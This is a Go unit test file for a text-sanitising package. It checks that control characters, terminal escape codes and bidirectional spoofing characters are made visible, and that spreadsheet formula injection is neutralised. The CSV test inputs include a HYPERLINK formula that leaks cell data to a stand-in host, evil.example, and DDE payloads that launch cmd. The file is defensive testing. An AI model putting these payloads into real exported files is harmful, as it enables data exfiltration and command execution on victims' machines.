package safetext

import "testing"

func TestEscape(t *testing.T) {
	tests := []struct{ in, want string }{
		{"ECR-000123", "ECR-000123"},
		{"Şeker ığdır Çay", "Şeker ığdır Çay"},
		{"a\tb\nc\rd", "a<U+0009>b<U+000A>c<U+000D>d"},
		{"\x1b[2J\x1b[31mPAID", "<U+001B>[2J<U+001B>[31mPAID"},
		{"\u202egnp.exe", "<U+202E>gnp.exe"},
		{"ref\u2066x\u2069\u200f\u061c", "ref<U+2066>x<U+2069><U+200F><U+061C>"},
		{"zero\u200bwidth\ufeff", "zero<U+200B>width<U+FEFF>"},
		{"del\x7f c1\u0085 ls\u2028", "del<U+007F> c1<U+0085> ls<U+2028>"},
		{"bad\xffbyte", "bad\ufffdbyte"},
	}
	for _, tt := range tests {
		if got := Escape(tt.in); got != tt.want {
			t.Errorf("Escape(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// TestCSVCell: OWASP's CSV injection rule.
func TestCSVCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"+1", "'+1"},
		{"  =1+1", "'  =1+1"},
		{"＝1+1", "'＝1+1"},
		{"\t=1", "<U+0009>=1"},
		{"-20.00", "-20.00"},
		{"149.90", "149.90"},
		{"-", "'-"},
		{"ECR-1", "ECR-1"},
		{"", ""},
	}
	for _, tt := range tests {
		if got := CSVCell(tt.in); got != tt.want {
			t.Errorf("CSVCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}
